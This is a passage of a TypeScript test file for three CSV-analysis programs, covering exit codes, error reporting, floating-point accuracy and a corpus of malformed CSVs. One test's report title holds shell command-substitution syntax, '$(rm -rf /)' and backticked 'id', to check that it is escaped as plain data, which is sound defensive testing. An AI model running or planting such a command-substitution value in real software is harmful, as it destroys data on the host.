// The three production programs, run by the production registry through the process runner; then a
// shared corpus of hostile CSVs (test/fixtures/csv/) that all three must read the same way.
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, describe, test } from "node:test";
import zlib from "node:zlib";
import { findPrograms, type Program } from "../../src/analyses/programs.ts";
import type { ProcessResult } from "../../src/runner/run-process.ts";
import { ROOT } from "../helpers/cli.ts";
import { runProgram } from "../helpers/runner.ts";

const work = fs.mkdtempSync(path.join(os.tmpdir(), "assay-programs-"));
after(() => fs.rmSync(work, { recursive: true, force: true }));
const found = findPrograms({});
const program = (type: string) => found.available.find((p) => p.type === type);

const GOOD =
  'id,height,weight,name\n1,170.5,65,"Smith, Jo"\n2,180,80,Lee\n3,,72,"A ""quoted"" name"\n4,165,NA,Kim\n';
const inputs = {
  good: GOOD,
  text: "name,city\nann,paris\nbob,rome\n",
  ragged: "a,b\n1,2\n3\n",
  binary: `a,b\n1,2\n\u0000\u0001\u0002\n`,
  empty: "",
};

function file(name: keyof typeof inputs): string {
  const p = path.join(work, `${name}.csv`);
  if (!fs.existsSync(p)) fs.writeFileSync(p, inputs[name]);
  return p;
}

async function run(
  p: Program,
  input: string,
  params: unknown,
): Promise<{ r: ProcessResult; out: string; progress: number[] }> {
  const progress: number[] = [];
  const ran = await runProgram(p, work, input, params, {
    timeoutMs: 60_000,
    onProgress: (e) => progress.push(e.percent),
  });
  return { ...ran, progress };
}

const cases: {
  type: string;
  params: Record<string, unknown>;
  badParams: unknown[];
  check: (out: string) => void;
}[] = [
  {
    type: "summary",
    params: {},
    badParams: [{ method: "mean" }, "not an object"],
    check: (out) => {
      const s = JSON.parse(fs.readFileSync(path.join(out, "summary.json"), "utf8"));
      assert.equal(s.rows, 4);
      const byName = Object.fromEntries(s.columns.map((c: { name: string }) => [c.name, c]));
      assert.deepEqual(byName.height, {
        name: "height",
        type: "number",
        nonNull: 3,
        min: 165,
        max: 180,
        mean: (170.5 + 180 + 165) / 3,
      });
      assert.equal(byName.name.type, "string");
      assert.equal(byName.weight.nonNull, 3);
    },
  },
  {
    type: "python-stats",
    params: { method: "max", columns: ["height", "weight"] },
    badParams: [{ method: "mode" }, {}, { method: "mean", columns: "height" }, { method: "mean", extra: 1 }],
    check: (out) => {
      const s = JSON.parse(fs.readFileSync(path.join(out, "stats.json"), "utf8"));
      assert.deepEqual(s.columns, { height: 180, weight: 80 });
      assert.match(fs.readFileSync(path.join(out, "stats.csv"), "utf8"), /^column,max\r?\nheight,180.0/);
    },
  },
  {
    type: "r-report",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax that must arrive as plain data
    params: { title: "Q3 $(rm -rf /) `id` & <b>bold</b>; echo ${PATH}" },
    badParams: [{ title: 5 }, { colour: "red" }],
    check: (out) => {
      const html = fs.readFileSync(path.join(out, "report.html"), "utf8");
      assert.match(
        html,
        /<title>Q3 \$\(rm -rf \/\) `id` &amp; &lt;b&gt;bold&lt;\/b&gt;; echo \$\{PATH\}<\/title>/,
      );
      assert.match(html, /<td>height<\/td><td>3<\/td>/);
      assert.match(html, /src="data:image\/png;base64,iVBORw0KGgo/);
    },
  },
];

for (const c of cases) {
  const p = program(c.type);
  const missing = found.missing.find((m) => m.type === c.type);
  // Locally a missing runtime skips its tests, saying why; in CI (.ci/run installs R) it fails them.
  const skip = !p && process.env.CI !== "true" ? `${missing?.reason}: install it to run these tests` : false;

  describe(c.type, { skip }, () => {
    test("is available on this machine", () => {
      assert.ok(p, `${c.type}: ${missing?.reason}`);
    });

    test("good CSV (quotes, empty and NA cells) → exit 0, a result event, the output file, progress", async () => {
      const { r, out, progress } = await run(p as Program, file("good"), c.params);
      assert.equal(r.exitCode, 0, r.stderrTail);
      assert.equal(r.protocolError, undefined);
      assert.ok(r.result);
      assert.ok(fs.existsSync(path.join(out, r.result.outputFileName)));
      assert.equal(r.result.metrics.rows, 4);
      c.check(out);
      assert.ok(
        progress.length >= 2 && progress.every((x, i) => i === 0 || x >= (progress[i - 1] as number)),
      );
    });

    test("unusable data (ragged rows, binary junk, no numeric column, empty) → exit 3", async () => {
      for (const name of ["ragged", "binary", "text", "empty"] as const) {
        const params = c.type === "python-stats" ? { method: "mean" } : c.params;
        const { r } = await run(p as Program, file(name), params);
        assert.equal(r.exitCode, 3, `${name}: ${r.stderrTail}`);
        // Why, in an error event: the run's errorMessage shows it to the user.
        assert.equal(r.protocolError, undefined, name);
        const why = {
          ragged: /fields, the header has/,
          binary: /binary/,
          text: /no numeric column/,
          empty: /empty/,
        };
        assert.match(r.reportedError ?? "", why[name], name);
      }
    });

    test("a failure's error event is JSON and at most 500 characters, whatever the column names", async () => {
      // A duplicated 100,000-character name with control characters, quotes and backslashes in it.
      const name = `\u0001"\\\u001b[31m${"é".repeat(100_000)}`;
      const input = path.join(work, `dup-${c.type}.csv`);
      fs.writeFileSync(input, `"${name.replaceAll('"', '""')}","${name.replaceAll('"', '""')}"\n1,2\n`);
      const params = c.type === "python-stats" ? { method: "mean" } : c.params;
      const { r } = await run(p as Program, input, params);
      assert.equal(r.exitCode, 3, r.stderrTail.slice(0, 300));
      assert.equal(r.protocolError, undefined);
      assert.ok(
        r.reportedError?.startsWith(`duplicate column name: \u0001"\\\u001b[31méé`),
        r.reportedError?.slice(0, 80),
      );
      assert.equal(r.reportedError?.length, 500);
    });

    test("an input that cannot be read (missing) → exit 2, as bad parameters", async () => {
      const params = c.type === "python-stats" ? { method: "mean" } : c.params;
      const { r } = await run(p as Program, path.join(work, "no-such-file.csv"), params);
      assert.equal(r.exitCode, 2, r.stderrTail); // summary exited 1 (uncaught ENOENT)
      assert.match(r.stderrTail, /cannot read the input/);
      // The user is told why, never where the input is stored.
      assert.match(r.reportedError ?? "", /^cannot read the input/);
      assert.ok(!r.reportedError?.includes(work), r.reportedError);
    });

    test("bad parameters → exit 2", async () => {
      for (const params of c.badParams) {
        const { r } = await run(p as Program, file("good"), params);
        assert.equal(r.exitCode, 2, `${JSON.stringify(params)}: ${r.stderrTail}`);
        assert.ok(r.reportedError, `${JSON.stringify(params)}: an error event says why`);
      }
    });
  });
}

test("summary streams: progress at least every 5% of a multi-megabyte input", async () => {
  const big = path.join(work, "big.csv");
  const rows = ["x,y"];
  for (let i = 0; i < 300_000; i++) rows.push(`${i},${i % 97}`);
  fs.writeFileSync(big, `${rows.join("\n")}\n`);
  const { r, progress } = await run(program("summary") as Program, big, {});
  assert.equal(r.exitCode, 0, r.stderrTail);
  assert.equal(r.result?.metrics.rows, 300_000);
  const gaps = progress.slice(1).map((x, i) => x - (progress[i] as number));
  assert.ok(progress.length >= 15, `only ${progress.length} progress events`);
  assert.ok(Math.max(...gaps.slice(0, -2)) <= 10, `progress jumped by ${Math.max(...gaps)}`);
});

// ---------------------------------------------------------------------------------------------------
// The hostile-CSV corpus. The semantics all three programs follow (each script's header repeats them):
// - Encoding: UTF-8 only. A leading byte-order mark (Excel's "CSV UTF-8") is dropped. Other bytes
//   (Latin-1 é, a sequence cut off at the end of the file) and NUL bytes → exit 3; nothing is guessed.
// - Syntax: RFC 4180. Lines end in LF or CRLF (a CR without LF → exit 3). A quote opens a quoted field
//   only as its first character (elsewhere it is a literal character); quoted fields hold commas,
//   doubled quotes and line breaks; text after a closing quote, or a quote open at the end → exit 3.
// - Shape: blank lines are ignored anywhere. The first record is the header: names trimmed, non-empty
//   and distinct (else exit 3). Every other record has exactly as many fields as the header: short or
//   long rows → exit 3 (no padding, no row names). A 0-byte file → exit 3; a header without rows → exit
//   3.
// - Cells: trimmed of spaces, tabs, CR and LF; quoting does not change a type (" 50 " in quotes is 50).
//   "" and NA (any case) are missing. A number is decimal: [+-]digits[.digits][e[+-]digits] (no hex,
//   no 1_000). NaN, Inf, Infinity (any case, signed) and numbers beyond the double range (1e400) are
//   missing too, never a value, and counted in the column's note "N NaN/Infinity values treated as
//   missing". Anything else is text. A column is numeric when it has a number and no text; a file
//   without a numeric column → exit 3.
// - Numbers: sums and squares are computed on values scaled by a power of two, so every statistic a
//   double can hold comes out right (the mean of 1.7e308 twice is 1.7e308); one it cannot hold is null
//   (a blank cell in r-report) with the note "<statistic> overflows", e.g. "stdev overflows": summary
//   in the column's "notes", python-stats in "notes" by column, r-report in the table's notes column.
//   A statistic a column does not have — the stdev of one value — is null (blank) too, with the note
//   "stdev needs at least two values" (python-stats, r-report; summary has no stdev). Min, median and
//   max are written in full by all three (r-report rounds only its mean and stdev, to 6 digits).
//   No output file or stdout line holds NaN or Infinity.
// For exit 0 the figures all three report: rows, column names (summary: all; python-stats and r-report:
// the numeric ones, r-report also the number of columns), and per numeric column [count, mean].
type Expected =
  | { exit: 3 }
  | { exit: 0; rows: number; columns: string[]; numeric: Record<string, [count: number, mean: number]> };

const CORPUS: Record<string, Expected> = {
  "normal.csv": {
    exit: 0,
    rows: 4,
    columns: ["id", "height", "weight", "name"],
    numeric: { id: [4, 2.5], height: [3, (170.5 + 180 + 165) / 3], weight: [3, (65 + 80 + 72) / 3] },
  },
  "bom.csv": { exit: 0, rows: 3, columns: ["a", "b"], numeric: { a: [3, 7 / 3] } },
  // BOM, CRLF, quoted header, quoted number, UTF-8 é
  "excel-utf8.csv": {
    exit: 0,
    rows: 3,
    columns: ["id", "price", "label"],
    numeric: { id: [3, 2], price: [3, 31 / 3] },
  },
  // CRLF, and no line end after the last row
  "crlf.csv": { exit: 0, rows: 3, columns: ["x", "y"], numeric: { x: [3, 3], y: [3, 4] } },
  // quoted commas, doubled quotes, quoted LF and CRLF, a quoted empty cell, a quoted " 50 "
  "quoted.csv": {
    exit: 0,
    rows: 5,
    columns: ["id", "label", "value"],
    numeric: { id: [5, 3], value: [5, 30] },
  },
  "blank-lines.csv": { exit: 0, rows: 2, columns: ["a", "b"], numeric: { a: [2, 2], b: [2, 3] } },
  "empty-column.csv": { exit: 0, rows: 3, columns: ["a", "b", "c"], numeric: { a: [3, 2] } },
  // NaN, Infinity, -inf, nan, +INF: missing, not text (x and y stay numeric)
  "nonfinite-text.csv": {
    exit: 0,
    rows: 5,
    columns: ["id", "x", "y"],
    numeric: { id: [5, 3], x: [2, 5], y: [3, 2] },
  },
  "extreme.csv": {
    exit: 0,
    rows: 2,
    columns: ["big", "tiny", "largest"],
    numeric: { big: [2, 1e308], tiny: [2, 5e-324], largest: [2, Number.MAX_VALUE] },
  },
  // x: 1e200, -1e200, 5 (stdev ≈ 1e200); y: 1.7e308 twice; z: ±1.7e308 (stdev overflows)
  "overflow.csv": {
    exit: 0,
    rows: 3,
    columns: ["x", "y", "z"],
    numeric: { x: [3, 5 / 3], y: [2, 1.7e308], z: [2, 0] },
  },
  // -0 written as -0 and as -0.0, and -1e-400 (a -0 once read): all three write 0
  "negative-zero.csv": {
    exit: 0,
    rows: 2,
    columns: ["a", "b", "c"],
    numeric: { a: [2, 0], b: [2, 0], c: [2, 0.5] },
  },
  "ragged-short.csv": { exit: 3 },
  "ragged-long.csv": { exit: 3 }, // a header one field shorter than the rows
  "ragged-late.csv": { exit: 3 }, // a short row after the first five
  "latin1.csv": { exit: 3 },
  "latin1-at-end.csv": { exit: 3 }, // the last byte starts a sequence that never ends
  "empty.csv": { exit: 3 }, // 0 bytes
  "header-only.csv": { exit: 3 },
  "duplicate-header.csv": { exit: 3 },
  "text-after-quote.csv": { exit: 3 },
  "unterminated-quote.csv": { exit: 3 },
  // CR CR LF line ends (a CRLF file converted to CRLF again): a CR not followed by LF. python-stats,
  // which skipped the extra CRs as csv.reader does, read it while the other two refused it.
  "cr-cr-lf.csv": { exit: 3 },
};
const CORPUS_DIR = path.join(ROOT, "test/fixtures/csv");

interface Figures {
  rows: number;
  /** Every column's name, where the program reports them all. */
  columns?: string[];
  columnCount?: number;
  numeric: Record<string, [count: number, mean: number | null]>;
}

const readJson = (out: string, name: string) => JSON.parse(fs.readFileSync(path.join(out, name), "utf8"));

interface ReportRow {
  name: string;
  n: number;
  mean: number | null;
  stdev: number | null;
  min: number | null;
  median: number | null;
  max: number | null;
  notes: string;
}
const unescapeHtml = (s: string) =>
  s
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");
function reportTable(html: string): ReportRow[] {
  const num = (s: string) => (s === "" ? null : Number(s));
  // 7 cells after the name; 6 in reports without the notes column (r_report.R before it had one)
  const cells = /<tr><td>([\s\S]*?)<\/td>((?:<td>[^<]*<\/td>){6,7})<\/tr>/g;
  return [...html.matchAll(cells)].map((m) => {
    const [n, mean, stdev, min, median, max, notes = ""] = [
      ...(m[2] as string).matchAll(/<td>([^<]*)<\/td>/g),
    ].map((c) => c[1] as string) as [string, string, string, string, string, string, string?];
    return {
      name: unescapeHtml(m[1] as string),
      n: Number(n),
      mean: num(mean),
      stdev: num(stdev),
      min: num(min),
      median: num(median),
      max: num(max),
      notes: unescapeHtml(notes),
    };
  });
}

const corpusRuns: { type: string; params: Record<string, unknown>; figures: (out: string) => Figures }[] = [
  {
    type: "summary",
    params: {},
    figures: (out) => {
      const s = readJson(out, "summary.json");
      const cols = s.columns as { name: string; type: string; nonNull: number; mean?: number | null }[];
      return {
        rows: s.rows,
        columns: cols.map((c) => c.name),
        numeric: Object.fromEntries(
          cols.filter((c) => c.type === "number").map((c) => [c.name, [c.nonNull, c.mean ?? null]]),
        ),
      };
    },
  },
  {
    type: "python-stats",
    params: { method: "mean" },
    figures: (out) => {
      const s = readJson(out, "stats.json");
      const csv = fs.readFileSync(path.join(out, "stats.csv"), "utf8");
      assert.doesNotMatch(csv, /(^|,)[+-]?(nan|inf)/im, "stats.csv holds a non-finite number");
      return {
        rows: s.rows,
        numeric: Object.fromEntries(Object.keys(s.columns).map((k) => [k, [s.counts[k], s.columns[k]]])),
      };
    },
  },
  {
    type: "r-report",
    params: {},
    figures: (out) => {
      const html = fs.readFileSync(path.join(out, "report.html"), "utf8");
      const head = /<p>(\d+) rows, (\d+) columns, (\d+) numeric\.<\/p>/.exec(html);
      assert.ok(head, "the report states its rows and columns");
      assert.doesNotMatch(html, /<td>-?(NA|NaN|Inf|Infinity)<\/td>/, "the table shows a non-finite value");
      return {
        rows: Number(head[1]),
        columnCount: Number(head[2]),
        numeric: Object.fromEntries(reportTable(html).map((r) => [r.name, [r.n, r.mean]])),
      };
    },
  },
];

/** a and b equal to `digits` significant digits (r-report prints its mean and stdev to 6). */
function assertClose(actual: number | null, expected: number, digits: number, what: string) {
  assert.ok(actual !== null, `${what}: null, expected ${expected}`);
  const tolerance = 10 ** -digits * Math.max(Math.abs(actual), Math.abs(expected));
  assert.ok(Math.abs(actual - expected) <= tolerance, `${what}: ${actual}, expected ${expected}`);
}

for (const c of corpusRuns) {
  const p = program(c.type);
  const skip = !p && process.env.CI !== "true" ? `${c.type} is not available on this machine` : false;
  describe(`${c.type} on the hostile-CSV corpus`, { skip }, () => {
    for (const [file, expected] of Object.entries(CORPUS)) {
      test(`${file} → exit ${expected.exit}`, async () => {
        const { r, out } = await run(p as Program, path.join(CORPUS_DIR, file), c.params);
        assert.equal(r.protocolError, undefined, "every stdout line is a protocol event (valid JSON)");
        assert.equal(r.exitCode, expected.exit, r.stderrTail);
        if (expected.exit !== 0) return;
        const f = c.figures(out);
        assert.equal(f.rows, expected.rows);
        assert.equal(r.result?.metrics.rows, expected.rows);
        if (f.columns) assert.deepEqual(f.columns, expected.columns);
        if (f.columnCount !== undefined) assert.equal(f.columnCount, expected.columns.length);
        assert.deepEqual(Object.keys(f.numeric), Object.keys(expected.numeric), "numeric columns");
        for (const [name, [count, mean]] of Object.entries(expected.numeric)) {
          const [n, m] = f.numeric[name] as [number, number | null];
          assert.equal(n, count, `${name}: count`);
          assertClose(m, mean, c.type === "r-report" ? 5 : 12, `${name}: mean`);
        }
      });
    }
  });
}

// One test per fault of the issue "programs right on real-world CSVs" (the corpus covers them too).
const corpus = (name: string) => path.join(CORPUS_DIR, name);
const skipUnless = (...types: string[]) =>
  types.every((t) => program(t)) || process.env.CI === "true" ? false : `needs ${types.join(", ")}`;

test("python-stats: a byte-order mark is not part of the first column's name", {
  skip: skipUnless("python-stats"),
}, async () => {
  const { r, out } = await run(program("python-stats") as Program, corpus("bom.csv"), {
    method: "mean",
    columns: ["a"],
  });
  assert.equal(r.exitCode, 0, r.stderrTail);
  assert.deepEqual(readJson(out, "stats.json").columns, { a: 7 / 3 });
});

// overflow.csv: x = 1e200, -1e200, 5 (deviations of about ±1e200 and 0, so stdev = sqrt(2e400 / 2) =
// 1e200); y = 1.7e308 twice (mean 1.7e308); z = ±1.7e308 (stdev 2.4e308: beyond the double range).
test("summary: the mean of 1.7e308 twice is 1.7e308", { skip: skipUnless("summary") }, async () => {
  const { r, out } = await run(program("summary") as Program, corpus("overflow.csv"), {});
  assert.equal(r.exitCode, 0, r.stderrTail);
  const y = readJson(out, "summary.json").columns[1];
  assert.deepEqual(y, { name: "y", type: "number", nonNull: 2, min: 1.7e308, max: 1.7e308, mean: 1.7e308 });
});

test("python-stats: no overflow where the statistic is representable, null and a note where not", {
  skip: skipUnless("python-stats"),
}, async () => {
  const expected: Record<string, Record<string, number | null>> = {
    stdev: { x: 1e200, y: 0, z: null },
    mean: { x: 5 / 3, y: 1.7e308, z: 0 },
    median: { x: 5, y: 1.7e308, z: 0 },
  };
  for (const [method, want] of Object.entries(expected)) {
    const { r, out } = await run(program("python-stats") as Program, corpus("overflow.csv"), { method });
    assert.equal(r.protocolError, undefined);
    assert.equal(r.exitCode, 0, `${method}: ${r.stderrTail}`);
    const s = readJson(out, "stats.json"); // JSON.parse refuses NaN and Infinity
    for (const [name, value] of Object.entries(want)) {
      if (value === null) assert.equal(s.columns[name], null, `${method} of ${name}`);
      else assertClose(s.columns[name], value, 12, `${method} of ${name}`);
    }
    assert.deepEqual(s.notes ?? {}, method === "stdev" ? { z: ["stdev overflows"] } : {});
    assert.doesNotMatch(fs.readFileSync(path.join(out, "stats.csv"), "utf8"), /nan|inf/i);
  }
});

test("r-report: no overflow where the statistic is representable, a blank and a note where not", {
  skip: skipUnless("r-report"),
}, async () => {
  const { r, out } = await run(program("r-report") as Program, corpus("overflow.csv"), {});
  assert.equal(r.exitCode, 0, r.stderrTail);
  const [x, y, z] = reportTable(fs.readFileSync(path.join(out, "report.html"), "utf8")) as ReportRow[];
  assertClose(x?.mean ?? null, 5 / 3, 5, "mean of x");
  assertClose(x?.stdev ?? null, 1e200, 5, "stdev of x");
  assertClose(y?.mean ?? null, 1.7e308, 5, "mean of y");
  assert.equal(z?.stdev, null);
  assert.equal(z?.notes, "stdev overflows");
});

test("r-report: the title is rendered exactly as given, whatever backslashes it holds", {
  skip: skipUnless("r-report"),
}, async () => {
  const titles = [
    "C:\\new dir",
    'C:\\\\server\\share\\t \\u0041 \\" "quoted" / \\/ é ✓ 😀',
    "two\nlines\ttab",
  ];
  for (const title of titles) {
    const { r, out } = await run(program("r-report") as Program, corpus("normal.csv"), { title });
    assert.equal(r.exitCode, 0, r.stderrTail);
    const html = fs.readFileSync(path.join(out, "report.html"), "utf8");
    const escaped = title.replace(/&/g, "&amp;").replace(/"/g, "&quot;");
    assert.ok(html.includes(`<title>${escaped}</title>`), `${JSON.stringify(title)} not in the <title>`);
    assert.ok(html.includes(`<h1>${escaped}</h1>`));
  }
});

test("r-report: every numeric column is plotted, on one stated scale, up to a stated cap", {
  skip: skipUnless("r-report"),
}, async () => {
  const pngSize = (html: string) => {
    const b64 = /src="data:image\/png;base64,([^"]+)"/.exec(html)?.[1] as string;
    const png = Buffer.from(b64, "base64");
    return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
  };
  // normal.csv starts with a row id: the ids are plotted, and so are height and weight.
  const normal = await run(program("r-report") as Program, corpus("normal.csv"), {});
  assert.equal(normal.r.exitCode, 0, normal.r.stderrTail);
  const html = fs.readFileSync(path.join(normal.out, "report.html"), "utf8");
  assert.match(html, /<p class="plotted">Plotted: id, height, weight\.<\/p>/);
  assert.match(html, /<p class="scale">[^<]*vertical axis is shared by all panels[^<]*<\/p>/);
  assert.doesNotMatch(html, /not-plotted/);

  // 15 numeric columns (and a text one): the first 12 are plotted, the 3 others named.
  const names = Array.from({ length: 15 }, (_, i) => `m${i + 1}`);
  const lines = [["label", ...names].join(",")];
  for (let row = 0; row < 30; row++)
    lines.push([`r${row}`, ...names.map((_, i) => (row * (i + 1)) % 17)].join(","));
  const wide = path.join(work, "wide.csv");
  fs.writeFileSync(wide, `${lines.join("\n")}\n`);
  const many = await run(program("r-report") as Program, wide, {});
  assert.equal(many.r.exitCode, 0, many.r.stderrTail);
  const manyHtml = fs.readFileSync(path.join(many.out, "report.html"), "utf8");
  assert.ok(manyHtml.includes(`<p class="plotted">Plotted: ${names.slice(0, 12).join(", ")}.</p>`));
  assert.match(manyHtml, /<p class="not-plotted">Not plotted \(at most 12 panels\): m13, m14, m15\.<\/p>/);
  assert.ok(pngSize(manyHtml).height > pngSize(html).height, "12 panels take more room than 3");
});

// exact-range.csv: x = 999.9996, 1.0000004, 500; y = 0.1, 0.30000000000000004, 0.2; z = 123456789.123,
// -2.5e-7, 7; one = 42 alone (two empty cells).
const EXACT_RANGE: Record<string, { min: number; median: number; max: number }> = {
  x: { min: 1.0000004, median: 500, max: 999.9996 },
  y: { min: 0.1, median: 0.2, max: 0.30000000000000004 },
  z: { min: -2.5e-7, median: 7, max: 123456789.123 },
  one: { min: 42, median: 42, max: 42 },
};

test("r-report: min, median and max are values the column has, as summary and python-stats report them", {
  skip: skipUnless("r-report", "summary", "python-stats"),
}, async () => {
  // To 6 significant digits the max of x was "1000" and its min "1", values x does not have.
  const { r, out } = await run(program("r-report") as Program, corpus("exact-range.csv"), {});
  assert.equal(r.exitCode, 0, r.stderrTail);
  const html = fs.readFileSync(path.join(out, "report.html"), "utf8");
  const table = reportTable(html);
  assert.deepEqual(
    Object.fromEntries(table.map((row) => [row.name, { min: row.min, median: row.median, max: row.max }])),
    EXACT_RANGE,
  );
  assert.match(
    html,
    /<p class="digits">Mean and stdev to 6 significant digits; min, median and max in full\./,
  );
  // The mean stays readable: 6 significant digits.
  assert.equal(/<tr><td>x<\/td><td>3<\/td><td>([^<]*)<\/td>/.exec(html)?.[1], "500.333");

  const summary = await run(program("summary") as Program, corpus("exact-range.csv"), {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  for (const c of readJson(summary.out, "summary.json").columns as {
    name: string;
    min: number;
    max: number;
  }[])
    assert.deepEqual(
      { min: c.min, max: c.max },
      { min: EXACT_RANGE[c.name]?.min, max: EXACT_RANGE[c.name]?.max },
    );
  for (const method of ["min", "median", "max"] as const) {
    const stats = await run(program("python-stats") as Program, corpus("exact-range.csv"), { method });
    assert.equal(stats.r.exitCode, 0, stats.r.stderrTail);
    const want = Object.fromEntries(Object.entries(EXACT_RANGE).map(([name, s]) => [name, s[method]]));
    assert.deepEqual(readJson(stats.out, "stats.json").columns, want, method);
  }
});

test("python-stats and r-report: a one-value column's stdev is null (blank) with a note saying why", {
  skip: skipUnless("python-stats", "r-report"),
}, async () => {
  // null alone meant "overflows, see the note", and there was no note.
  const { r, out } = await run(program("python-stats") as Program, corpus("exact-range.csv"), {
    method: "stdev",
  });
  assert.equal(r.exitCode, 0, r.stderrTail);
  const s = readJson(out, "stats.json");
  assert.equal(s.columns.one, null);
  assert.equal(s.counts.one, 1);
  assert.deepEqual(s.notes, { one: ["stdev needs at least two values"] });
  assert.match(fs.readFileSync(path.join(out, "stats.csv"), "utf8"), /\r\none,\r\n$/, "an empty cell");
  assertClose(s.columns.x, 499.49988315012314, 12, "stdev of x");

  const report = await run(program("r-report") as Program, corpus("exact-range.csv"), {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  const one = reportTable(fs.readFileSync(path.join(report.out, "report.html"), "utf8")).find(
    (row) => row.name === "one",
  );
  assert.equal(one?.stdev, null);
  assert.equal(one?.notes, "stdev needs at least two values");
});

test("summary, python-stats and r-report write -0 as 0", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // python-stats wrote "-0.0" (stats.json and stats.csv) where summary and r-report wrote 0.
  const isPlusZero = (v: unknown, what: string) => assert.ok(Object.is(v, 0), `${what}: ${v}`);
  const summary = await run(program("summary") as Program, corpus("negative-zero.csv"), {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  const [a, b] = readJson(summary.out, "summary.json").columns;
  for (const [name, c] of Object.entries({ a, b }))
    for (const s of ["min", "max", "mean"]) isPlusZero(c[s], `summary: ${s} of ${name}`);
  for (const method of ["min", "max", "median", "mean"]) {
    const { r, out } = await run(program("python-stats") as Program, corpus("negative-zero.csv"), { method });
    assert.equal(r.exitCode, 0, r.stderrTail);
    const s = readJson(out, "stats.json");
    isPlusZero(s.columns.a, `python-stats: ${method} of a`);
    isPlusZero(s.columns.b, `python-stats: ${method} of b`);
    assert.doesNotMatch(fs.readFileSync(path.join(out, "stats.csv"), "utf8"), /-0/, `${method}: stats.csv`);
  }
  const report = await run(program("r-report") as Program, corpus("negative-zero.csv"), {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  const html = fs.readFileSync(path.join(report.out, "report.html"), "utf8");
  assert.doesNotMatch(html, /<td>-0<\/td>/);
  const [ra, , rc] = reportTable(html) as ReportRow[];
  assert.deepEqual([ra?.min, ra?.median, ra?.max, ra?.mean], [0, 0, 0, 0]);
  assert.equal(rc?.min, 0);
});

test("summary, python-stats and r-report agree on a mean whose sum cancels: a compensated sum", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // 1e16 + 1 is 1e16 in doubles: in file order, in doubles, the three said 0 (r-report, adding in long
  // double, once said 0.333333 alone).
  const input = path.join(work, "cancel.csv");
  fs.writeFileSync(input, "x\n1e16\n1\n-1e16\n");
  const expected = 1 / 3;
  const summary = await run(program("summary") as Program, input, {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  assert.equal(readJson(summary.out, "summary.json").columns[0].mean, expected);
  const stats = await run(program("python-stats") as Program, input, { method: "mean" });
  assert.equal(stats.r.exitCode, 0, stats.r.stderrTail);
  assert.equal(readJson(stats.out, "stats.json").columns.x, expected);
  const report = await run(program("r-report") as Program, input, {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  const [x] = reportTable(fs.readFileSync(path.join(report.out, "report.html"), "utf8")) as ReportRow[];
  assert.equal(x?.mean, Number(expected.toPrecision(6)));
});

/** A CSV whose columns hold `columns`' values, one after another (empty cells below a shorter one). */
function columnsFile(name: string, columns: Record<string, string[]>): string {
  const names = Object.keys(columns);
  const rows = Math.max(...Object.values(columns).map((v) => v.length));
  const lines = [names.join(",")];
  for (let i = 0; i < rows; i++) lines.push(names.map((n) => columns[n]?.[i] ?? "").join(","));
  const input = path.join(work, name);
  fs.writeFileSync(input, `${lines.join("\n")}\n`);
  return input;
}

test("summary, python-stats and r-report: a constant column's mean is its value, its stdev 0", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // Added in doubles, ten 0.1s had the mean 0.09999999999999999 (below the min), a thousand 0.7s
  // 0.7000000000000064 (above the max), three 1.7e308s 1.6999999999999997e+308; r-report's stdev,
  // around that mean, was 1.46285e-17, 6.44252e-15 and 2.4444e+292.
  const constant = { tenth: [0.1, 10], seven: [0.7, 1000], huge: [1.7e308, 3] } as const;
  const input = columnsFile(
    "constant.csv",
    Object.fromEntries(Object.entries(constant).map(([name, [v, n]]) => [name, Array(n).fill(String(v))])),
  );
  const summary = await run(program("summary") as Program, input, {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  for (const c of readJson(summary.out, "summary.json").columns as { name: string; mean: number }[]) {
    const [v, n] = constant[c.name as keyof typeof constant];
    assert.deepEqual(c, { name: c.name, type: "number", nonNull: n, min: v, max: v, mean: v });
  }
  for (const [method, want] of [
    ["mean", (v: number) => v],
    ["stdev", () => 0],
  ] as const) {
    const { r, out } = await run(program("python-stats") as Program, input, { method });
    assert.equal(r.exitCode, 0, r.stderrTail);
    const expected = Object.fromEntries(Object.entries(constant).map(([name, [v]]) => [name, want(v)]));
    assert.deepEqual(readJson(out, "stats.json").columns, expected, method);
  }
  const report = await run(program("r-report") as Program, input, {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  const table = reportTable(fs.readFileSync(path.join(report.out, "report.html"), "utf8"));
  assert.deepEqual(
    table.map((row) => [row.name, row.n, row.mean, row.stdev, row.notes]),
    Object.entries(constant).map(([name, [v, n]]) => [name, n, v, 0, ""]),
  );
});

test("summary, python-stats and r-report agree on the exact mean of values of mixed magnitude and sign", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // Each column: pairs ±b of magnitudes from 1 to 2^60, and small positive values, all multiples of
  // 2^-10, shuffled; 2^k values in all. Their exact sum (BigInt, in units of 2^-10) is the small
  // values' sum, a double, and so is the mean. Added in doubles, what a large running sum rounded off
  // was lost. `long` (65,536 values, over 1 MiB) spans r-report's read blocks; `short` is a column of
  // 256 values beside it.
  let seed = 0x2545f491;
  const random = () => {
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
    return seed / 2 ** 32;
  };
  const column = (count: number) => {
    const units: bigint[] = [];
    for (let i = 0; i < count / 4; i++) {
      const b = BigInt(Math.floor(random() * 2 ** 30) + 1) << BigInt(Math.floor(random() * 41)); // < 2^71
      units.push(b, -b);
    }
    while (units.length < count) units.push(BigInt(Math.floor(random() * 2 ** 20) + 1));
    for (let i = units.length - 1; i > 0; i--) {
      const j = Math.floor(random() * (i + 1));
      [units[i], units[j]] = [units[j] as bigint, units[i] as bigint];
    }
    const sum = units.reduce((a, u) => a + u, 0n);
